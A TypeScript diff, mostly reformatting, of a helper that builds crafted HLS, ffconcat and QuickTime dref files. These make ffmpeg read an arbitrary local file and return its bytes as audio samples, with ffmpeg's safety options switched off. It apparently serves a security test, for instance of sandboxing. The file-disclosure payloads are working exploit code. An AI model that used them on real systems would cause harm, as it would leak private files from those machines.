@@ -19,7 +19,11 @@ export interface Attack {
 }
 
 /** Three files that make ffmpeg read another file of the machine: an HLS playlist, a concat script, a QuickTime data reference. */
-export async function attackFiles(parent: string, target: string, ffmpeg: string): Promise<Record<'hls' | 'concat' | 'dref', Attack>> {
+export async function attackFiles(
+  parent: string,
+  target: string,
+  ffmpeg: string,
+): Promise<Record<'hls' | 'concat' | 'dref', Attack>> {
   const unpicky = await segmentOptions(ffmpeg);
   const folder = await mkdtemp(join(parent, 'attack-'));
   await chmod(folder, 0o755);
@@ -30,22 +34,58 @@ export async function attackFiles(parent: string, target: string, ffmpeg: string
     await writeFile(path, content);
     return path;
   };
-  const playlist = ['#EXTM3U', '#EXT-X-TARGETDURATION:9', '#EXTINF:9,', head, '#EXTINF:9,', target, '#EXT-X-ENDLIST', ''];
+  const playlist = [
+    '#EXTM3U',
+    '#EXT-X-TARGETDURATION:9',
+    '#EXTINF:9,',
+    head,
+    '#EXTINF:9,',
+    target,
+    '#EXT-X-ENDLIST',
+    '',
+  ];
   const hls = await write('hls.mp4', playlist.join('\n'));
-  const concat = await write('concat.mp4', `ffconcat version 1.0\nfile 'concat:${head}|${target}'\n`);
+  const concat = await write(
+    'concat.mp4',
+    `ffconcat version 1.0\nfile 'concat:${head}|${target}'\n`,
+  );
   const dref = await write('dref.mov', movieOf(target));
   return {
     hls: {
-      ...{ file: hls, reads: [hls, head] },
-      args: [...WITHOUT_GUARDS, '-f', 'hls', '-allowed_extensions', 'ALL', ...unpicky, '-i', `file:${hls}`, ...AS_TEXT],
+      file: hls,
+      reads: [hls, head],
+      args: [
+        ...WITHOUT_GUARDS,
+        '-f',
+        'hls',
+        '-allowed_extensions',
+        'ALL',
+        ...unpicky,
+        '-i',
+        `file:${hls}`,
+        ...AS_TEXT,
+      ],
     },
     concat: {
-      ...{ file: concat, reads: [concat, head] },
+      file: concat,
+      reads: [concat, head],
       args: [...WITHOUT_GUARDS, '-f', 'concat', '-safe', '0', '-i', `file:${concat}`, ...AS_TEXT],
     },
     dref: {
-      ...{ file: dref, reads: [dref] },
-      args: [...WITHOUT_GUARDS, '-enable_drefs', '1', '-use_absolute_path', '1', '-f', 'mov', '-i', `file:${dref}`, ...AS_TEXT],
+      file: dref,
+      reads: [dref],
+      args: [
+        ...WITHOUT_GUARDS,
+        '-enable_drefs',
+        '1',
+        '-use_absolute_path',
+        '1',
+        '-f',
+        'mov',
+        '-i',
+        `file:${dref}`,
+        ...AS_TEXT,
+      ],
     },
   };
 }
@@ -54,7 +94,9 @@ export async function attackFiles(parent: string, target: string, ffmpeg: string
 async function segmentOptions(ffmpeg: string): Promise<string[]> {
   const { stdout } = await promisify(execFile)(ffmpeg, ['-hide_banner', '-h', 'demuxer=hls']);
   const options = { allowed_segment_extensions: 'ALL', extension_picky: '0' };
-  return Object.entries(options).flatMap(([name, value]) => (stdout.includes(`-${name} `) ? [`-${name}`, value] : []));
+  return Object.entries(options).flatMap(([name, value]) =>
+    stdout.includes(`-${name} `) ? [`-${name}`, value] : [],
+  );
 }
 
 /** Sound of eight bits: each byte behind it is one sample. */
@@ -63,7 +105,9 @@ function waveHead(): Buffer {
   head.write('RIFF', 0, 'latin1');
   head.writeUInt32LE(MOST_BYTES + 36, 4);
   head.write('WAVEfmt ', 8, 'latin1');
-  [16, 0x1_0001, 8000, 8000, 0x8_0001].forEach((value, at) => head.writeUInt32LE(value, 16 + at * 4));
+  [16, 0x1_0001, 8000, 8000, 0x8_0001].forEach((value, at) =>
+    head.writeUInt32LE(value, 16 + at * 4),
+  );
   head.write('data', 36, 'latin1');
   head.writeUInt32LE(MOST_BYTES, 40);
   return head;
@@ -82,9 +126,15 @@ function movieOf(target: string): Buffer {
   const references = box('dref', [words(0, 1), box('alis', [words(0), alias(target)])]);
   const minf = box('minf', [box('smhd', [Buffer.alloc(8)]), box('dinf', [references]), table]);
   const mdia = box('mdia', [box('mdhd', [words(0, 0, 0, 8000, MOST_SAMPLES, 0)]), handler, minf]);
-  const track = box('trak', [box('tkhd', [words(1, 0, 0, 1, 0, MOST_SAMPLES), Buffer.alloc(60)]), mdia]);
+  const track = box('trak', [
+    box('tkhd', [words(1, 0, 0, 1, 0, MOST_SAMPLES), Buffer.alloc(60)]),
+    mdia,
+  ]);
   const header = box('mvhd', [words(0, 0, 0, 8000, MOST_SAMPLES), Buffer.alloc(80)]);
-  return Buffer.concat([box('ftyp', [Buffer.from('qt  \0\0\0\0qt  ', 'latin1')]), box('moov', [header, track])]);
+  return Buffer.concat([
+    box('ftyp', [Buffer.from('qt  \0\0\0\0qt  ', 'latin1')]),
+    box('moov', [header, track]),
+  ]);
 }
 /** A reader stops at the end of the file where it holds fewer. */
 const MOST_SAMPLES = 1300;
@@ -105,7 +155,13 @@ function alias(target: string): Buffer {
   const entry = Buffer.alloc(4);
   entry.writeUInt16BE(2, 0);
   entry.writeUInt16BE(path.length, 2);
-  return Buffer.concat([head, entry, path, Buffer.alloc(path.length % 2), Buffer.from([0xff, 0xff, 0, 0])]);
+  return Buffer.concat([
+    head,
+    entry,
+    path,
+    Buffer.alloc(path.length % 2),
+    Buffer.from([0xff, 0xff, 0, 0]),
+  ]);
 }
 
 function words(...values: readonly number[]): Buffer {
